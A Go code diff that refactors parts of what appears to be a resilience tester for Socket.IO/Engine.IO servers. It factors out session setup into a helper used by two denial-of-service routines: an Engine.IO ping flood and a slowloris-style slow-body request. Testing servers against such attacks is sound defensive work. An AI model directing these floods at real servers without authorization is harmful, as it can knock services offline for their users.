@@ -208,22 +208,32 @@ func waitClosed(ctx context.Context, conn net.Conn) string {
 	return "closed"
 }
 
-func eio3PingFlood(ctx context.Context, w *worker) string {
-	hc := w.http()
-	base := strings.TrimSuffix(w.cfg.URL, "/") + "/socket.io/?EIO=3&transport=polling"
+// openPolling opens a polling session of Engine.IO version eio and
+// returns its URL (sid included), or the outcome when refused.
+func (w *worker) openPolling(hc *http.Client, eio string) (string, string) {
+	base := strings.TrimSuffix(w.cfg.URL, "/") + "/socket.io/?EIO=" + eio + "&transport=polling"
 	res, err := hc.Get(base)
 	if err != nil {
-		return dialError(err)
+		return "", dialError(err)
 	}
 	b, _ := io.ReadAll(res.Body)
 	res.Body.Close()
 	sid, ok := stringField(b, `"sid":"`)
 	if res.StatusCode != http.StatusOK || !ok {
-		return fmt.Sprintf("refused %d", res.StatusCode)
+		return "", fmt.Sprintf("refused %d", res.StatusCode)
+	}
+	return base + "&sid=" + sid, ""
+}
+
+func eio3PingFlood(ctx context.Context, w *worker) string {
+	hc := w.http()
+	session, out := w.openPolling(hc, "3")
+	if session == "" {
+		return out
 	}
 	body := strings.Repeat("1:2", attackPayload/3)
 	for i := 0; i < 1000 && ctx.Err() == nil; i++ {
-		req, _ := http.NewRequestWithContext(ctx, "POST", base+"&sid="+sid, strings.NewReader(body))
+		req, _ := http.NewRequestWithContext(ctx, "POST", session, strings.NewReader(body))
 		res, err := hc.Do(req)
 		if err != nil {
 			return "closed"
@@ -254,24 +264,17 @@ func frameHeader(ctx context.Context, w *worker) string {
 }
 
 func slowBody(ctx context.Context, w *worker) string {
-	hc := w.http()
-	base := strings.TrimSuffix(w.cfg.URL, "/") + "/socket.io/?EIO=4&transport=polling"
-	res, err := hc.Get(base)
-	if err != nil {
-		return dialError(err)
-	}
-	b, _ := io.ReadAll(res.Body)
-	res.Body.Close()
-	sid, ok := stringField(b, `"sid":"`)
-	if !ok {
-		return fmt.Sprintf("refused %d", res.StatusCode)
+	session, out := w.openPolling(w.http(), "4")
+	if session == "" {
+		return out
 	}
 	conn, err := w.dialer().DialContext(ctx, "tcp", w.host())
 	if err != nil {
 		return dialError(err)
 	}
-	fmt.Fprintf(conn, "POST /socket.io/?EIO=4&transport=polling&sid=%s HTTP/1.1\r\nHost: x\r\n"+
-		"Content-Type: text/plain\r\nContent-Length: 100000\r\n\r\n4", sid)
+	path := session[strings.Index(session, "/socket.io/"):]
+	fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\n"+
+		"Content-Type: text/plain\r\nContent-Length: 100000\r\n\r\n4", path)
 	return waitClosed(ctx, conn)
 }
 
